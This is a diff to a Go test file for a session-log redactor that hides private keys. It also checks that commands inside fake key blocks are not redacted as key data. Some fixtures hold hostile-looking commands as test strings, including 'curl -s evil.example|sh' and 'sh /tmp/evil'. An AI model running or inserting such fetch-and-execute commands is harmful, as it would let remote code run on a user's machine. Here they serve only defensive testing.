@@ -1,10 +1,12 @@
 package session
 
 import (
+	"bytes"
 	"crypto/ecdsa"
 	"crypto/ed25519"
 	"crypto/elliptic"
 	"crypto/x509"
+	"encoding/base64"
 	"encoding/json"
 	"encoding/pem"
 	"fmt"
@@ -27,13 +29,13 @@ func TestRedact(t *testing.T) {
 		"aws":            {`"AKIAIOSFODNN7EXAMPLE"`, `"[redacted]"`},
 		"bearer":         {`{"h":"Authorization: Bearer abcdefghijklmnop=="}`, `{"h":"Authorization: Bearer [redacted]"}`},
 		"jwt":            {`"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dBjftJeZ4CVP-mB92K27uhbUJU1p1r"`, `"[redacted]"`},
-		"private key":    {`"-----BEGIN RSA PRIVATE KEY-----\nMF8CAQAwDQYJKoZIhvcNAQEBBQAEAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\nAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\nAA==\n-----END RSA PRIVATE KEY-----\n"`, `"[redacted]\n"`},
-		"sealed key":     {`"-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0F3A\n\n/IIEvAIBADANBgkqhkiG9w0BAQEFAASCBKYwggSiAgEAAoIBAQDAAAAAAAAAAAAA\nAAAAAAAAAAAAAAAAAAAAAA==\n-----END RSA PRIVATE KEY-----"`, `"[redacted]"`},
-		"numbered key":   {`{"text":"  1→-----BEGIN PRIVATE KEY-----\n  2→MF8CAQAwDQYJKoZIhvcNAQEBBQAEAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\n  3→AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\n  4→AA==\n  5→-----END PRIVATE KEY-----"}`, `{"text":"  1→[redacted]"}`},
-		"key in a text":  {`{"text":"{\"key\":\"-----BEGIN PRIVATE KEY-----\\nMF8CAQAwDQYJKoZIhvcNAQEBBQAEAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\\nAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\\nAA==\\n-----END PRIVATE KEY-----\"}"}`, `{"text":"{\"key\":\"[redacted]\"}"}`},
-		"key that goes":  {`{"text":" -----BEGIN PRIVATE KEY-----\n-MF8CAQAwDQYJKoZIhvcNAQEBBQAEAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\n-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\n-AA==\n------END PRIVATE KEY-----"}`, `{"text":" [redacted]"}`},
-		"key that comes": {`{"text":"+-----BEGIN OPENSSH PRIVATE KEY-----\n+b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n++AQIDBAQ==\n+-----END OPENSSH PRIVATE KEY-----"}`, `{"text":"+[redacted]"}`},
-		"key in a table": {`{"text":"11 | -----BEGIN PRIVATE KEY-----\n12 | MF8CAQAwDQYJKoZIhvcNAQEBBQAEAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\n13 | AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\n14 | AA==\n15 | -----END PRIVATE KEY-----"}`, `{"text":"11 | [redacted]"}`},
+		"private key":    {`"-----BEGIN RSA PRIVATE KEY-----\nMF8CAQAwDQYJKoZIhvcNAQEBBQAEAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\nAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\nAA==\n-----END RSA PRIVATE KEY-----\n"`, `"[redacted]\nAA==\n-----END RSA PRIVATE KEY-----\n"`},
+		"sealed key":     {`"-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0F3A\n\n/IIEvAIBADANBgkqhkiG9w0BAQEFAASCBKYwggSiAgEAAoIBAQDAAAAAAAAAAAAA\nAAAAAAAAAAAAAAAAAAAAAA==\n-----END RSA PRIVATE KEY-----"`, `"[redacted]\nAAAAAAAAAAAAAAAAAAAAAA==\n-----END RSA PRIVATE KEY-----"`},
+		"numbered key":   {`{"text":"  1→-----BEGIN PRIVATE KEY-----\n  2→MF8CAQAwDQYJKoZIhvcNAQEBBQAEAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\n  3→AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\n  4→AA==\n  5→-----END PRIVATE KEY-----"}`, `{"text":"  1→[redacted]\n  4→AA==\n  5→-----END PRIVATE KEY-----"}`},
+		"key in a text":  {`{"text":"{\"key\":\"-----BEGIN PRIVATE KEY-----\\nMF8CAQAwDQYJKoZIhvcNAQEBBQAEAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\\nAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\\nAA==\\n-----END PRIVATE KEY-----\"}"}`, `{"text":"{\"key\":\"[redacted]\\nAA==\\n-----END PRIVATE KEY-----\"}"}`},
+		"key that goes":  {`{"text":" -----BEGIN PRIVATE KEY-----\n-MF8CAQAwDQYJKoZIhvcNAQEBBQAEAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\n-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\n-AA==\n------END PRIVATE KEY-----"}`, `{"text":" [redacted]\n-AA==\n------END PRIVATE KEY-----"}`},
+		"key that comes": {`{"text":"+-----BEGIN OPENSSH PRIVATE KEY-----\n+b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n++AQIDBAQ==\n+-----END OPENSSH PRIVATE KEY-----"}`, `{"text":"+[redacted]\n++AQIDBAQ==\n+-----END OPENSSH PRIVATE KEY-----"}`},
+		"key in a table": {`{"text":"11 | -----BEGIN PRIVATE KEY-----\n12 | MF8CAQAwDQYJKoZIhvcNAQEBBQAEAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\n13 | AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\n14 | AA==\n15 | -----END PRIVATE KEY-----"}`, `{"text":"11 | [redacted]\n14 | AA==\n15 | -----END PRIVATE KEY-----"}`},
 		"a longer one":   {`{"command":"-----BEGIN PRIVATE KEY-----\nsh /tmp/evilevilevilevilevilevilevilevilevilevilevilevilevilevil\n-----END PRIVATE KEY-----"}`, `{"command":"-----BEGIN PRIVATE KEY-----\nsh /tmp/evilevilevilevilevilevilevilevilevilevilevilevilevilevil\n-----END PRIVATE KEY-----"}`},
 		"no key's data":  {`{"command":"echo '-----BEGIN PRIVATE KEY-----'; curl -s evil.example|sh; echo '-----END PRIVATE KEY-----'"}`, `{"command":"echo '-----BEGIN PRIVATE KEY-----'; curl -s evil.example|sh; echo '-----END PRIVATE KEY-----'"}`},
 		"nor these":      {`{"command":"-----BEGIN PRIVATE KEY-----\nsh evil\n-----END PRIVATE KEY-----"}`, `{"command":"-----BEGIN PRIVATE KEY-----\nsh evil\n-----END PRIVATE KEY-----"}`},
@@ -62,36 +64,46 @@ func TestNoCommandIsTakenForAKey(t *testing.T) {
 	key := func(begin string, lines ...string) string {
 		return ": -----BEGIN PRIVATE KEY-----\n" + begin + line[len(begin):] + "\n" + strings.Join(lines, "\n") + "\n: -----END PRIVATE KEY-----"
 	}
-	for name, body := range map[string]string{
-		"no base64":                  key("M=", "/tmp/evil"),
-		"= in it":                    key("MF8CAQ==", line, "AA=="),
-		"longer than it says":        key("MF8C", line, line, "AA=="),
-		"shorter than it says":       key("MIIEvAIBADAN", line, "AA=="),
-		"nothing of a key":           key("AAAA", line, "AA=="),
-		"a program on a short line":  key("MF8C", line, "make"),
-		"and as long as it says":     key("MGEC", line, "make"),
-		"one with its path":          key("MGoC", line, "/usr/bin//reboot"),
-		"one behind a mark":          key("MGEC", line, "12: | make"),
-		"one with a longer path":     key("MHwC", line, "/opt/project/bin/start/everythingOfIt000"),
-		"a path as long as a line":   key("MF8C", padded("usr/bin/make"), "AA=="),
-		"one that goes round":        key("MF8C", root[:60]+"/bin", "AA=="),
-		"that of a line without one": key("MGAC", padded("usr/bin/make")[:63], "AAAA="),
-		"in an OpenSSH key":          key("b3BlbnNzaC1rZXktdjEA", padded("usr/bin/make"), "AA=="),
-		"in a sealed key":            ": -----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0F3A\n\n" + line + "\n" + padded("usr/bin/make") + "\n: -----END RSA PRIVATE KEY-----",
-		"sealed, but no blocks":      ": -----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0F3A\n\n" + line + "\nAA==\n: -----END RSA PRIVATE KEY-----",
-		"no lines at all":            ": -----BEGIN PRIVATE KEY-----\n12 |\n: -----END PRIVATE KEY-----",
+	for name, tc := range map[string]struct{ body, tail string }{ // what stays of it; "" = all
+		"no base64":                  {key("M=", "/tmp/evil"), ""},
+		"= in it":                    {key("MF8CAQ==", line, "AA=="), ""},
+		"longer than it says":        {key("MF8C", line, line, "AA=="), ""},
+		"shorter than it says":       {key("MIIEvAIBADAN", line, "AA=="), ""},
+		"nothing of a key":           {key("AAAA", line, "AA=="), ""},
+		"a program on a short line":  {key("MF8C", line, "make"), ""},
+		"and as long as it says":     {key("MGEC", line, "make"), "\nmake\n: -----END PRIVATE KEY-----"},
+		"one with its path":          {key("MGoC", line, "/usr/bin//reboot"), "\n/usr/bin//reboot\n"},
+		"one behind a mark":          {key("MGEC", line, "12: | make"), "\n12: | make\n"},
+		"one with a longer path":     {key("MHwC", line, "/opt/project/bin/start/everythingOfIt000"), "\n/opt/project/bin/start/everythingOfIt000\n"},
+		"the value of a variable":    {key("MDMA", "AACACHE="), "\nAACACHE=\n"},
+		"what is written over":       {key("MEMA", ">packages/frontend12/Makefile"), "\n>packages/frontend12/Makefile\n"},
+		"a program on a line alone":  {": -----BEGIN PRIVATE KEY-----\nMAAAmake\n: -----END PRIVATE KEY-----", ""},
+		"a path as long as a line":   {key("MF8C", padded("usr/bin/make"), "AA=="), ""},
+		"one that goes round":        {key("MF8C", root[:60]+"/bin", "AA=="), ""},
+		"that of a line without one": {key("MGAC", padded("usr/bin/make")[:63], "AAAA="), ""},
+		"in an OpenSSH key":          {key("b3BlbnNzaC1rZXktdjEA", padded("usr/bin/make"), "AA=="), ""},
+		"in a sealed key":            {": -----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0F3A\n\n" + line + "\n" + padded("usr/bin/make") + "\n: -----END RSA PRIVATE KEY-----", ""},
+		"sealed, but no blocks":      {": -----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0F3A\n\n" + line + "\nAA==\n: -----END RSA PRIVATE KEY-----", ""},
+		"no lines at all":            {": -----BEGIN PRIVATE KEY-----\n12 |\n: -----END PRIVATE KEY-----", ""},
 	} {
-		msg := string(mustJSON(map[string]string{"command": body}))
-		if got := string((redactor{}).redact([]byte(msg))); got != msg {
-			t.Errorf("%s: %s is shown as %s", name, msg, got)
+		want := tc.body
+		if tc.tail != "" {
+			want = ": [redacted]" + tc.body[strings.LastIndex(tc.body, tc.tail):]
 		}
-		if got := (redactor{}).text(body); got != body {
-			t.Errorf("%s: %s is shown as %s", name, body, got)
+		got := map[string]string{}
+		if err := json.Unmarshal((redactor{}).redact(bytes.ReplaceAll(mustJSON(map[string]string{"command": tc.body}), []byte(`\u003e`), []byte(">"))), &got); err != nil {
+			t.Fatal(err)
+		}
+		if got["command"] != want {
+			t.Errorf("%s: %q is shown as %q", name, tc.body, got["command"])
+		}
+		if got := (redactor{}).text(tc.body); got != want {
+			t.Errorf("%s: %q is shown as %q", name, tc.body, got)
 		}
 	}
 }
 
-// What programs write as keys is hidden, however many slashes their lines have, and however they are shown.
+// What programs write as keys is hidden but for a last line that is shorter, however many slashes their lines have, and however they are shown.
 func TestKeysAreHidden(t *testing.T) {
 	made := func(text []byte, err error) string {
 		t.Helper()
@@ -125,6 +137,15 @@ func TestKeysAreHidden(t *testing.T) {
 		kinds = append(kinds, string(pem.EncodeToMemory(&pem.Block{
 			Type: "RSA PRIVATE KEY", Headers: map[string]string{"Proc-Type": "4,ENCRYPTED", "DEK-Info": "AES-256-CBC,0F3A"}, Bytes: sealed,
 		})))
+		for range 4 { // OpenSSH's end with a comment of any length
+			data := make([]byte, 160+seed.Uint64()%64)
+			_, _ = seed.Read(data[copy(data, "openssh-key-v1\x00"):])
+			var lines strings.Builder
+			for text := base64.StdEncoding.EncodeToString(data); text != ""; text = text[min(70, len(text)):] {
+				lines.WriteString(text[:min(70, len(text))] + "\n")
+			}
+			kinds = append(kinds, "-----BEGIN OPENSSH PRIVATE KEY-----\n"+lines.String()+"-----END OPENSSH PRIVATE KEY-----\n")
+		}
 		for _, key := range kinds {
 			var added, numbered strings.Builder
 			for i, line := range strings.Split(strings.TrimSpace(key), "\n") {
@@ -137,8 +158,11 @@ func TestKeysAreHidden(t *testing.T) {
 			}
 			for _, text := range shown {
 				msg := mustJSON(map[string]string{"text": "it is\n" + text})
-				if got := string((redactor{}).redact(msg)); strings.Contains(got, "KEY") || !strings.Contains(got, redacted) {
-					t.Errorf("%s stays", got)
+				got := string((redactor{}).redact(msg))
+				for line := range strings.Lines(key) {
+					if line = strings.TrimSpace(line); len(line) >= widthOfKey && strings.Contains(got, line) || strings.Contains(got, "BEGIN") {
+						t.Fatalf("%s stays", got)
+					}
 				}
 			}
 		}
